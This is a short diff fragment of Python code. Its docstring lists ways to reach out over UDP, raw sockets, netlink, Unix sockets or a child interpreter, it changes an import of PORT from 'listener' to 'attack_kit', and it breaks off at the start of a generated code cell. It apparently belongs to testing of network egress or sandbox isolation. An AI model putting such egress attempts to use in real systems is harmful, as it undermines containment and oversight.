@@ -1,6 +1,6 @@
 """Reach out by UDP, a raw socket, netlink, a Unix socket, a child's interpreter."""
 
-from listener import PORT
+from attack_kit import PORT
 
 CELL = f"""\
 import glob, socket, subprocess, sys
